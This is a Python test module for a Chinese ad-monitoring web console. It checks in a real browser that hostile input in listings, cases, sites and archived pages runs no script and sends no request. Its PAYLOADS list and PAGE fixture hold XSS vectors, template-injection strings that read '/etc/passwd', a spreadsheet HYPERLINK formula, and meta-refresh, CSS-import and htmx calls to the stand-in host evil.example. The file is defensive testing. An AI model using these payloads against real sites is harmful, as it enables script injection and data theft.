"""Hostile text in every field on every screen of a real browser: no script runs, no request leaves, the shape holds."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adwatch.app.casework import show_case
from adwatch.app.queue import Filters, lead_page
from adwatch.casework.archived_page import harmless, plain
from adwatch.models import Listing
from adwatch.ports import Exchange
from adwatch.stages.classify import classify_backlog
from adwatch.store import schema as s
from adwatch.store import sites
from adwatch.store.engine import writing
from adwatch.store.listings import upsert_listings
from adwatch.text import clean
from tests.conftest import FixedClock
from tests.console.browser import SIZES, browsing
from tests.console.conftest import DAY, NOW
from tests.console.site import Site, opened, running, take_in

EVIL = "https://evil.example"
PAYLOADS = (
    f"<script src='{EVIL}/a.js'></script><script>alert(1)</script>",
    f"<img src={EVIL}/b.png onerror=alert(2)>",
    f"\"><svg onload=alert(3)><use href='{EVIL}/c.svg#x'/></svg>",
    f"' autofocus onfocus=alert(4) x='\"><iframe src='{EVIL}/d'></iframe>",
    "javascript:alert(5)",
    f"[点这里](javascript:alert(6)) ![图]({EVIL}/e.png)",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    f'=HYPERLINK("{EVIL}/f","领取") +1 -1 @SUM(A1)',
    "\u202e倒着写\u202c \u2066隔离\u2069 مرحبا بالعالم שלום",
    f"</textarea></title></bdi></p><style>@import '{EVIL}/g.css';*{{display:none}}</style><base href='{EVIL}/'>",
    f"<div hx-get='{EVIL}/h' hx-trigger='load' hx-on:click='alert(7)' data-key='j' data-open='decide'>htmx</div>",
    f"<form action='{EVIL}/i'><input name=csrf><button autofocus>x</button></form><meta http-equiv=refresh content='0;url={EVIL}/j'>",
    "\x00\x1b[2J\ud800\uffff𠮷👨‍👩‍👧",
)
OFFER = "电工证包过，免考直接拿证，三天出证，电话13800138000。"
PAGE = f"""<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/k">
<link rel="stylesheet" href="{EVIL}/l.css"><link rel="preconnect" href="{EVIL}"><link rel="dns-prefetch" href="{EVIL}">
<script>parent.alert(8)</script><style>body{{background:url({EVIL}/m.png)}}</style></head>
<body onload="alert(9)" background="{EVIL}/n.png" style="background:url({EVIL}/o.png)"><h1>存档 {"".join(PAYLOADS[:6])}</h1>
<a href="{EVIL}/p" ping="{EVIL}/q">链接</a><video src="{EVIL}/r" autoplay></video><object data="{EVIL}/s"></object>
<svg><image href="{EVIL}/t"/></svg><form action="{EVIL}/u"><input autofocus onfocus=alert(10)></form></body></html>"""


def hostile(folder: Path, site: Site) -> None:
    """Each payload in each field of a listing, handed over and as a page; in what people write as well."""
    office = site.office
    rows = [
        {
            "native_id": f"{number}{payload}",
            "url": f"https://mall.example/{number}?{payload}",
            "title": f"电工证包过 {payload}",
            "text": f"{OFFER}{payload}",
            "price": payload,
            "seller_id": payload,
            "seller_name": payload,
            "images": [f"{EVIL}/{number}.png", payload],
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    rows.append({"native_id": "huge", "title": "电工证包过" + "长" * 3000, "text": OFFER + "很长的文字" * 60_000})
    take_in(office, folder, rows, DAY, platform="<b>tips</b> & 'x'")
    take_in(
        office, folder, [{**row, "text": f"{row['text']}（改）"} for row in rows], DAY, platform="<b>tips</b> & 'x'"
    )
    for number, payload in enumerate((*PAYLOADS, PAGE)):
        page = PAGE if payload is PAGE else f"<html><body>{payload}</body></html>"
        headers = (("Content-Type", "text/html; charset=utf-8"), ("Refresh", f"0;url={EVIL}/v"))
        kept = office.keep(
            "html",
            None,
            Exchange(
                "mall",
                DAY,
                "detail",
                f"https://mall.example/{number}",
                "GET",
                NOW,
                200,
                "OK",
                (),
                b"",
                headers,
                page.encode("utf-8", "replace"),
            ),
        )
        item = Listing(
            "mall",
            f"page{number}",
            title=f"焊工证包过 {clean(payload)}",
            text=OFFER + clean(payload),
            url=f"https://mall.example/{number}",
            seller_region=clean(payload)[:300],
            seller_region_source=clean(payload)[:300],
            operator_name=clean(payload)[:300],
            sales_text=clean(payload)[:300],
            captured_at=NOW,
            capture_id=kept.id,
        )
        upsert_listings(office.engine, "mall", [item], DAY, NOW)
    classify_backlog(office.classifier, DAY)
    with writing(office.engine) as connection:
        for number, payload in enumerate(PAYLOADS, start=1):
            written = clean(payload)[:60]
            values = {"campaign": written, "owner": written, "region": written}
            connection.execute(s.case.update().where(s.case.c.id == number).values(**values))


def hostile_sites(site: Site) -> None:
    """Each payload in each field of a suspected site: name, address, where it was met, what a look saw."""
    named: dict[str, Any] = {"first_seen_at": NOW, "first_day": DAY, "verdict": "look_alike", "score": 3.0}
    with writing(site.office.engine) as connection:
        for number, payload in enumerate(PAYLOADS):
            said = clean(payload)
            about = {"why": [said], "families": [said[:40]], "about": {"maker": said, "store_link": said}}
            row, _ = sites.keep_site(connection, "account", f"{number}{said}"[:260], url=said, **named, **about)
            met: dict[str, Any] = {"address": said, "day": DAY, "at": NOW, "capture_id": None, "detail": said}
            sites.keep_sighting(connection, row["id"], None, "person", **met)
            facts = {"server_ip": said, "holder": said, "issuer": said, "filings": [said]}
            points = [{"name": "title", "points": 1.5, "why": said}]
            seen = {"word": "doubtful", "gone": False, "score": 1.5, "points": points, "facts": facts}
            sites.add_look(connection, site_id=row["id"], at=NOW, day=DAY, page_capture_id=None, **seen)
            sites.add_marks(connection, row["id"], [("contact", "same", said), ("icon", f"{number}", said)], NOW)


@pytest.fixture(scope="module")
def beset(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder = tmp_path_factory.mktemp("hostile")
    with opened(folder, FixedClock(NOW)) as office, running(office) as site:
        hostile(folder, site)
        hostile_sites(site)
        site.account("head", "head")
        site.account("admin", "admin")
        for number, payload in enumerate(PAYLOADS[:4]):
            person = {"person": f"人{payload}"[:60], "unit": f"局{payload}"[:60]}
            site.account(f"hostile{number}", "viewer", regions=[payload], **person)
        yield site


@pytest.mark.slow
@pytest.mark.parametrize("size", SIZES)
def test_no_script_runs_and_no_request_leaves(beset: Site, tmp_path: Path, size: tuple[int, int]) -> None:
    with browsing(beset, tmp_path, size) as seen:
        page = seen.page
        seen.sign_in("head")
        if size == SIZES[0]:  # what people write
            client = beset.client("head")
            for number, payload in enumerate(PAYLOADS[:-1], start=1):
                assert client.post(f"/cases/{number}/note", {"text": payload}).status == 303
                assert client.post("/queue/views", {"name": payload[:40]}).status == 303
            beset.office.clock.time += timedelta(hours=1)  # type: ignore[attr-defined]
            seen.sign_in("head")
        rows, _ = lead_page(beset.office, Filters(), None, 60)
        assert len(rows) > 2 * len(PAYLOADS)
        screens = ["/today", "/queue?state=all", "/reports", "/exports", "/keywords", "/audit?limit=500", "/settings"]
        screens += [f"/{name}" for name in sorted({*_found(beset)}) if f"/{name}" not in screens and name != "accounts"]
        screens += ["/sites?shown=all", *(f"/sites/{number}" for number in range(1, len(PAYLOADS) + 1))]
        cases = [f"/cases/{row['case_id']}" for row in rows]
        for path in [*screens, *cases]:
            seen.go(path)
            wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide <= 0, f"{path} is {wide} px too wide"
            assert page.locator("main h1").first.is_visible(), path
            assert (
                page.evaluate(
                    "document.querySelectorAll('main script, main style, main base, main svg use, [onload], [onerror], [onfocus]').length"
                )
                == 0
            )
        seen.shoot("hostile-case")
        seen.go("/queue?state=all")
        seen.shoot("hostile-queue")
        compared = next(row for row in rows if "tips" in row["platform"])
        seen.go(f"/cases/{compared['case_id']}")
        page.click("text=与上一版")
        page.wait_for_selector("ins")
        seen.shoot("hostile-compare")
        seen.go(cases[0])
        for reason in PAYLOADS[:3]:
            if not page.locator("input[name=reason]").is_visible():
                page.click("text=查看未脱敏内容与存档网页")
            page.fill("input[name=reason]", reason)
            page.click("button:text-is('查看')")
            page.wait_for_selector("#raw section")
        assert seen.alarms == [], seen.alarms[:3]
        assert seen.foreign() == []


def _found(site: Site) -> list[str]:
    from adwatch.console.screens import found_screens

    return [each.name for each in found_screens() if each.title]


@pytest.mark.slow
def test_an_archived_page_runs_nothing_and_loads_nothing(beset: Site, tmp_path: Path) -> None:
    rows, _ = lead_page(beset.office, Filters(), None, 60)
    case = next(row["case_id"] for row in rows if row["native_id"] == f"page{len(PAYLOADS)}")
    listing = show_case(beset.office, case)["listings"][0]["listing_id"]
    with browsing(beset, tmp_path) as seen:
        page = seen.page
        seen.sign_in("head")
        answer = beset.client("head").get(f"/cases/{case}/archived/{listing}/0")
        seen.go(f"/cases/{case}")
        page.click("text=查看未脱敏内容与存档网页")
        page.fill("input[name=reason]", "核对存档")
        page.click("button:text-is('查看')")
        page.click("summary:has-text('存档网页，版本 1')")
        frame = page.frame_locator("iframe.archived")
        frame.locator("h1:has-text('存档')").wait_for()
        assert frame.locator("script, link, meta[http-equiv], base, img, [href], [src], [style], form").count() == 0
        frame.locator("text=链接").click()
        seen.shoot("archived-page")
        assert seen.alarms == [] and seen.foreign() == []
    assert answer.status in (200, 400)


def test_an_archived_page_is_shown_only_after_the_act(beset: Site) -> None:
    client = beset.client("head")
    rows, _ = lead_page(beset.office, Filters(), None, 60)
    row = next(row for row in rows if row["native_id"] == "page3")
    path = f"/cases/{row['case_id']}/archived/{row['listing_id']}/0"
    assert client.get(path).status == 400
    assert client.post(f"/cases/{row['case_id']}/unmask", {"reason": "核对"}).status == 200
    answer = client.get(path)
    assert answer.status == 200 and "sandbox" in answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    beset.office.clock.time += timedelta(minutes=31)  # type: ignore[attr-defined]
    assert client.get(path).status == 400


@pytest.mark.parametrize(
    "payload", [*PAYLOADS, PAGE, "", "<", "<!--><script>alert(1)</script>", "<svg><style><img onerror=x>"]
)
def test_pages_are_made_harmless(payload: str) -> None:
    for made in (harmless(payload), plain(payload)):
        words = made.decode("utf-8").lower()
        assert not re.search(
            r"<(?!/?(?:a|b|bdi|body|br|button|div|h1|head|html|p|pre|span|table|td|title|tr|ul|li|code|form)\b|!doctype|meta charset)[a-z]",
            words,
        ), words[:300]
        assert not re.search(r"<[a-z1-6]+\s+(?!charset)[^>]*=", words), words[:300]


@given(st.text(max_size=400))
def test_any_page_is_made_harmless(text: str) -> None:
    made = harmless(text).decode("utf-8").lower()
    assert "<script" not in made and not re.search(r"<[a-z1-6]+\s+on", made)
